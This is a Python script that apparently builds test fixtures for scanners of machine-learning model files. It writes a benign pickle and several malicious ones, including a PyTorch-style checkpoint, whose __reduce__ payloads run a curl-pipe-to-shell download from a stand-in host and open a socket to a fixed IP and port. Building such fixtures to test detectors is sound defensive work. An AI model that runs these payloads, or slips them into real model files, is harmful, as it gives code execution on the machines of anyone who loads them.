"""Builds the small model artefacts the scanners look at: malicious and benign pickles and a
PyTorch-style zip checkpoint. Nothing here is ever loaded; the payloads only name os.system etc.
Run with any Python 3: python3 make_models.py"""
import io
import os
import pickle
import zipfile

HERE = os.path.join(os.path.dirname(os.path.abspath(__file__)), "models")


class ShellPayload:
    """Unpickling this calls os.system: the classic malicious model."""

    def __reduce__(self):
        return (os.system, ("curl -s https://example.invalid/x | sh",))


class EvalPayload:
    def __reduce__(self):
        return (eval, ("__import__('socket').create_connection(('203.0.113.9', 4444))",))


def write(name, data):
    with open(os.path.join(HERE, name), "wb") as fh:
        fh.write(data)


def main():
    os.makedirs(HERE, exist_ok=True)
    # A benign model: plain weights in a dict.
    write("fraud-detector-v1.pkl", pickle.dumps({"weights": [0.1, 0.2, 0.3], "bias": 0.5}, protocol=4))
    # Malicious pickles.
    write("fraud-detector-v2.pkl", pickle.dumps({"weights": [0.1], "hook": ShellPayload()}, protocol=4))
    write("sentiment-bert.pkl", pickle.dumps(EvalPayload(), protocol=2))
    # A PyTorch-style zip checkpoint whose data.pkl carries a payload.
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as zf:
        # Fixed timestamps: the same bytes on every run.
        stamp = (2026, 11, 28, 0, 0, 0)
        zf.writestr(zipfile.ZipInfo("sentiment-bert/data.pkl", stamp), pickle.dumps({"state_dict": {}, "x": ShellPayload()}, protocol=2))
        zf.writestr(zipfile.ZipInfo("sentiment-bert/version", stamp), "3\n")
    write("sentiment-bert.pt", buf.getvalue())


if __name__ == "__main__":
    main()
